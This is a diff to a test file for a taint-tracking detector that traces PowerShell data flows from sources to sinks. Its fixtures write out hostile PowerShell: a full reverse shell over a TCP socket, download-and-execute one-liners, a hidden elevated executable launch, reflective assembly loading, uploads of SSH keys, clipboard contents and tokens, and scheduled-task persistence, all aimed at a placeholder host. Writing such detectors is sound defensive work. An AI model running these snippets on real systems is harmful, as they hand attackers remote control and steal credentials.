@@ -18,10 +18,15 @@ const probe: TaintProbe = {
     { tag: 'remote', pattern: '*.downloadfile' },
     { tag: 'secret', pattern: 'env.TOKEN' },
     { tag: 'secret', pattern: 'copy-item(*.ssh*id_*)' },
+    { tag: 'secret', pattern: 'get-content(*.ssh*id_*)' },
+    { tag: 'secret', pattern: 'get-clipboard' },
+    { tag: 'remote', pattern: '*.downloaddata' },
+    { tag: 'peer', pattern: '*sockets.tcpclient.getstream' },
   ],
-  sinks: ['invoke-expression', '&', 'start-process', 'scriptblock.create', 'invoke-restmethod'].map(
-    (pattern) => ({ tag: 'sink', pattern }),
-  ),
+  sinks: [
+    ...['invoke-expression', '&', 'start-process', 'scriptblock.create', 'invoke-restmethod'],
+    ...['*reflection.assembly.load', '*.uploadstring', '*.write'],
+  ].map((pattern) => ({ tag: 'sink', pattern })),
   sanitizers: [],
 }
 
@@ -44,7 +49,7 @@ test.each([
   [
     'a method of an object',
     "(New-Object Net.WebClient).DownloadString('https://a.test/x') | IEX",
-    '?.downloadstring(https://a.test/x) > invoke-expression',
+    'net.webclient.downloadstring(https://a.test/x) > invoke-expression',
   ],
   [
     'a block made of a text',
@@ -59,7 +64,7 @@ test.each([
   [
     'a file left by a method',
     '$wc = New-Object Net.WebClient\n$wc.DownloadFile("https://a.test/x", "$HOME\\x.exe")\n& "$env:USERPROFILE\\x.exe"',
-    'wc.downloadfile(https://a.test/x) > &',
+    'net.webclient.downloadfile(https://a.test/x) > &',
   ],
   [
     'a table of fields',
@@ -96,6 +101,77 @@ test.each([
     'Copy-Item "$HOME\\.ssh\\id_rsa" -Destination "$env:TEMP\\w"\nCompress-Archive -Path "$env:TEMP\\w\\*" -DestinationPath c.zip\nirm https://a.test/in -InFile c.zip',
     'copy-item(~\\.ssh\\id_rsa) > invoke-restmethod',
   ],
+  [
+    'a connection that is read and answered',
+    `$client = New-Object System.Net.Sockets.TCPClient('a.test', 443)
+$stream = $client.GetStream()
+[byte[]]$bytes = 0..65535 | % { 0 }
+while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
+  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
+  $back = (iex $data 2>&1 | Out-String)
+  $out = [Text.Encoding]::ASCII.GetBytes($back + 'PS ' + (pwd).Path + '> ')
+  $stream.Write($out, 0, $out.Length)
+}`,
+    'net.sockets.tcpclient.getstream > invoke-expression',
+  ],
+  [
+    'a reader of a connection',
+    `$s = [Net.Sockets.TcpClient]::new('a.test', 443).GetStream()
+$r = [IO.StreamReader]::new($s)
+while ($true) { iex $r.ReadLine() }`,
+    'net.sockets.tcpclient.getstream > invoke-expression',
+  ],
+  [
+    'bytes that are written and started',
+    `$dir = Join-Path $env:LOCALAPPDATA 'a\\bin'
+$exe = Join-Path $dir 'b.exe'
+$wc = [Activator]::CreateInstance([type]('Net.Web' + 'Client'))
+[IO.File]::WriteAllBytes($exe, $wc.DownloadData('https://a.test/x'))
+Start-Process $exe '/quiet' -WindowStyle Hidden -Verb RunAs`,
+    'net.webclient.downloaddata(https://a.test/x) > start-process',
+  ],
+  [
+    'an assembly that is loaded',
+    "[System.Reflection.Assembly]::Load([byte[]](New-Object Net.WebClient).DownloadData('https://a.test/x'))",
+    'net.webclient.downloaddata(https://a.test/x) > system.reflection.assembly.load',
+  ],
+  [
+    'a walk with a test',
+    `gci "$HOME\\.ssh" -Recurse | ? { $_.Name -like 'id_*' } | % {
+  irm https://a.test/in -Method Post -Body (Get-Content $_.FullName -Raw)
+}`,
+    'get-content(~\\.ssh\\id_*) > invoke-restmethod',
+  ],
+  [
+    'what is caught and tried again',
+    'try { $r = iwr https://a.test/x } catch { $r = irm https://b.test/x } finally { iex $r }',
+    'invoke-restmethod(https://b.test/x) > invoke-expression',
+  ],
+  [
+    'what a function puts out, among others',
+    'function Get-It { Write-Host a; if ($x) { return "" }; irm https://a.test/x }\n$t = Get-It\niex $t',
+    'invoke-restmethod(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'a job and what it is given',
+    'Start-Job -ScriptBlock { param($u) iex (irm $u) } -ArgumentList https://a.test/x',
+    'invoke-restmethod(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'a list that grows',
+    '$all = @()\nforeach ($u in $urls) { $all += Get-Clipboard }\n(New-Object Net.WebClient).UploadString("https://a.test", ($all -join "\\n"))',
+    'get-clipboard > net.webclient.uploadstring',
+  ],
+  [
+    'words that are laid out',
+    '$p = @{ Uri = "https://a.test"; Method = "Post"; Body = $env:TOKEN }\nInvoke-RestMethod @p',
+    'env.TOKEN > invoke-restmethod',
+  ],
+  [
+    'a task with a command that is handed over',
+    `Register-ScheduledTask -TaskName t -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-w hidden -c "iex (irm https://a.test/x)"')`,
+    'invoke-restmethod(https://a.test/x) > invoke-expression',
+  ],
 ])('data is followed through %s', async (_, text, flow) => {
   expect(await flowsOf(text)).toContain(flow)
 })
@@ -104,6 +180,14 @@ test('what is fetched and kept is not run', async () => {
   expect(
     await flowsOf('iwr https://a.test/x -OutFile x.zip\nExpand-Archive x.zip\nStart-Process b.exe'),
   ).toEqual([])
+})
+
+test.each([
+  ['another name', '$a = irm https://a.test/x\n$b = "plain text"\niex $b'],
+  ['a test of it', '$a = irm https://a.test/x\nif ($a -eq "1") { iex "plain text" }'],
+  ['a name of another function', 'function f { $x = irm https://a.test/x }\nf\niex "$x plain"'],
+])('what is fetched does not reach %s', async (_, text) => {
+  expect(await flowsOf(text)).toEqual([])
 })
 
 test('a block that another command is given is looked at by itself', async () => {
